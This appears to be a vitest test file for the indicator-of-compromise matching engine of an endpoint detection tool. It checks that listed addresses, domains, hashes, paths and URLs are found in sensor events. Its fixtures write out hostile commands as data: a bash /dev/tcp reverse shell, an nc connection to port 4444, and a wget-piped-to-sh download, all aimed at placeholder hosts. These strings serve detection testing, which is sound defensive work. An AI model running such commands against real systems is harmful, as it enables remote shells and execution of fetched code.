import type { SensorEvent } from "@picket/protocol/event";
import type { StoredIoc } from "@picket/protocol/ioc";
import { expect, test } from "vitest";
import { replay } from "../../replay.ts";
import { event, exec, noRules, proc, T0 } from "../../testing/events.ts";
import { iocEngine } from "./engine.ts";
import { namedIn } from "./hosts.ts";
import { IocIndex } from "./index.ts";
import { look } from "./look.ts";
import { Segment } from "./segment.ts";

const HASH = `${"ab".repeat(31)}cd`;
const ioc = (kind: StoredIoc["kind"], value: string, more: Partial<StoredIoc> = {}): StoredIoc => ({
  ...{ kind, value, confidence: 80, expiresS: 0, label: "", tags: [], added: 1 },
  ...more,
});
function indexOf(lists: Record<string, readonly StoredIoc[]>): IocIndex {
  const index = new IocIndex();
  index.use(
    Object.entries(lists).map(([source, iocs], at) => {
      const segment = new Segment({ generation: at + 1, source, indicators: iocs.length });
      for (const one of iocs) segment.add(one);
      segment.seal();
      return segment;
    }),
  );
  return index;
}
const curl = proc(12, "/usr/bin/curl");
const connect = (dstIp: string) => event("net.connect", 1, { process: curl, net: { proto: "tcp", dstIp, dstPort: 443 } });
const dns = (query: string) => event("net.dns", 1, { process: curl, net: { query } });
const ran = (...argv: string[]) => exec(1, proc(12, "/usr/bin/curl", { argv }));
const asked = { receivedS: T0 / 1000 };
const index = indexOf({
  lab: [
    ioc("address", "203.0.113.9"),
    ioc("address", "198.51.100.0/24"),
    ioc("address", "2001:db8:1::/48"),
    ioc("domain", "evil.example"),
    ioc("domain", "xn--bcher-kva.example"),
    ioc("sha256", HASH),
    ioc("url", "files.example.org/a/b?c=1"),
    ioc("path", "/tmp/.x/kworker"),
    ioc("name", "kinsing"),
    ioc("name", "жук.bin"),
  ],
});

const rows: [string, SensorEvent, string | undefined][] = [
  ["an address", connect("203.0.113.9"), "203.0.113.9"],
  ["the address beside it", connect("203.0.113.10"), undefined],
  ["an address inside IPv6", connect("::ffff:203.0.113.9"), "203.0.113.9"],
  ["an address in a range", connect("198.51.100.77"), "198.51.100.0/24"],
  ["an IPv6 address in a range", connect("2001:DB8:1:2::9"), "2001:db8:1::/48"],
  ["an IPv6 address outside of it", connect("2001:db8:2::9"), undefined],
  ["what is no address", connect("not an address"), undefined],
  ["a domain", dns("evil.example"), "evil.example"],
  ["a name below it, in capitals and with the root's dot", dns("A.b.EVIL.example."), "evil.example"],
  ["a name that only ends alike", dns("notevil.example"), undefined],
  ["the domain above", dns("example"), undefined],
  ["a name of dots", dns("...."), undefined],
  ["a name in IDNA", dns("www.xn--bcher-kva.example"), "xn--bcher-kva.example"],
  ["a hash that ran", exec(1, proc(9, "/opt/z", { sha256: HASH })), HASH],
  ["a hash that was written", event("file.hash", 1, { file: { path: "/opt/z", sha256: HASH, size: 3 } }), HASH],
  ["a path that ran", exec(1, proc(9, "/tmp/.x/kworker")), "/tmp/.x/kworker"],
  ["a path that was written", event("file.create", 1, { process: curl, file: { path: "/tmp/.x/kworker" } }), "/tmp/.x/kworker"],
  ["a path below another root", event("file.create", 1, { process: curl, file: { path: "/a/tmp/.x/kworker" } }), undefined],
  ["a file name", event("file.rename", 1, { process: curl, file: { path: "/tmp/a", to: "/var/tmp/kinsing" } }), "kinsing"],
  ["a file name beyond ASCII", event("file.modify", 1, { process: curl, file: { path: "/srv/жук.bin" } }), "жук.bin"],
  [
    "the far end of a shell",
    event("process.exec", 1, { process: proc(3, "/bin/sh"), stdio: { fds: [0], ip: "203.0.113.9", port: 1 } }),
    "203.0.113.9",
  ],
  ["a login", event("auth.login", 1, { user: "root", remoteIp: "203.0.113.9", method: "password", ok: true }), "203.0.113.9"],
  ["a host in a URL", ran("curl", "-s", "http://a.evil.example:8080/x"), "evil.example"],
  ["a host of ssh", ran("ssh", "root@evil.example"), "evil.example"],
  ["a bare address", ran("nc", "203.0.113.9", "4444"), "203.0.113.9"],
  ["a device file of bash", ran("bash", "-c", "sh -i >& /dev/tcp/203.0.113.9/4444 0>&1"), "203.0.113.9"],
  ["an IPv6 host", ran("curl", "http://[2001:db8:1::5]/x"), "2001:db8:1::/48"],
  ["a URL", ran("wget", "https://Files.example.org/a/b?c=1#top"), "files.example.org/a/b?c=1"],
  ["a URL within a script", ran("sh", "-c", 'wget -qO- "http://files.example.org/a/b?c=1"|sh'), "files.example.org/a/b?c=1"],
  ["another URL of that host", ran("wget", "https://files.example.org/a/b?c=2"), undefined],
  ["a folder that is called like a domain", ran("ls", "/var/www/evil.example"), undefined],
  ["sudo", event("auth.sudo", 1, { user: "ann", command: "/usr/bin/curl http://evil.example/", ok: true }), "evil.example"],
  ["too long a name", dns("a.".repeat(127)), undefined],
  ["too long a path", event("file.create", 1, { process: curl, file: { path: `/${"a".repeat(4095)}` } }), undefined],
];

test.each(rows)("%s", (_, of, value) => {
  expect(look(index, of, asked)?.map(({ listed }) => listed.value)).toEqual(value === undefined ? undefined : [value]);
});

test("nothing listed, nothing found, whatever the event", () => {
  const empty = new IocIndex();
  for (const [, of] of rows) expect(look(empty, of, asked)).toBeUndefined();
});

test("an indicator holds until it expires, by the time an event was received", () => {
  const until = indexOf({ lab: [ioc("address", "203.0.113.9", { expiresS: 1000 })] });
  expect(look(until, connect("203.0.113.9"), { receivedS: 999 })).toHaveLength(1);
  expect(look(until, connect("203.0.113.9"), { receivedS: 1000 })).toBeUndefined();
});

test("only what is new is searched for in the past", () => {
  const two = indexOf({ lab: [ioc("address", "203.0.113.9", { added: 1 }), ioc("address", "203.0.113.10", { added: 2 })] });
  const added = new Set([2]);
  expect(look(two, connect("203.0.113.9"), { ...asked, added })).toBeUndefined();
  expect(look(two, connect("203.0.113.10"), { ...asked, added })).toHaveLength(1);
});

test("the narrowest range and the longest name are told, and the surest list first", () => {
  const lists = indexOf({
    b: [ioc("address", "198.51.0.0/16"), ioc("domain", "example.org", { confidence: 10 })],
    a: [ioc("address", "198.51.100.0/24"), ioc("domain", "a.example.org"), ioc("domain", "example.org", { confidence: 99 })],
  });
  expect(look(lists, connect("198.51.100.1"), asked)![0]!.listed.value).toBe("198.51.100.0/24");
  expect(look(lists, dns("x.a.example.org"), asked)![0]!.listed.value).toBe("a.example.org");
  expect(look(lists, dns("b.example.org"), asked)![0]!.listed.entries.map(({ source }) => source)).toEqual(["a", "b"]);
});

test("names in a command are few however long it is, and files are not taken for hosts", () => {
  const heard: string[] = [];
  const named = { host: (name: string) => void heard.push(name), url: (url: string) => void heard.push(url) };
  namedIn(["bash", "install.sh", "./run.py", "a.tar.gz", "libc.so.6", "lab.example.org", "1.2.3.4:80"], named);
  expect(heard).toEqual(["libc.so.6", "lab.example.org", "1.2.3.4"]);
  heard.length = 0;
  namedIn(
    Array.from({ length: 5000 }, (_, at) => `h${at}.example.org`),
    named,
  );
  expect(heard).toHaveLength(64);
  heard.length = 0;
  namedIn(["x.".repeat(100_000), "http://", "://a.b", "@", "[::", "[]", "http://[1.2]/x", "\ud800.x"], named);
  expect(heard.length).toBeLessThan(5);
});

test("an alert says who listed what as what, and grows for the same program", async () => {
  const lists = indexOf({
    "feed-a": [ioc("address", "203.0.113.9", { label: "Mirai\u001b[2J", expiresS: Date.parse("2030-12-01") / 1000 })],
    "feed-b": [ioc("address", "203.0.113.0/24", { confidence: 20 }), ioc("sha256", HASH, { confidence: 95 })],
  });
  const events = [connect("203.0.113.9"), connect("203.0.113.9"), exec(2, proc(13, "/opt/z", { sha256: HASH }))];
  const alerts = await Array.fromAsync(
    replay(
      events.map((of, at) => ({ id: `e${at}`, event: of })),
      { ...noRules, engines: [iocEngine(lists)] },
    ),
  );
  expect(alerts).toHaveLength(2);
  const address = alerts.find(({ rule }) => rule.id === "picket-ioc-address")!;
  expect(address).toMatchObject({ severity: "high", count: 2, events: ["e0", "e1"], rule: { engine: "ioc", author: "feed-a" } });
  expect(address.summary).toBe(
    "curl (pid 12) connected to 203.0.113.9:443; 203.0.113.9 is listed by feed-a as Mirai\uFFFD[2J (confidence 80, until 2030-12-01)",
  );
  expect(alerts.find(({ rule }) => rule.id === "picket-ioc-sha256")).toMatchObject({ severity: "critical" });
});
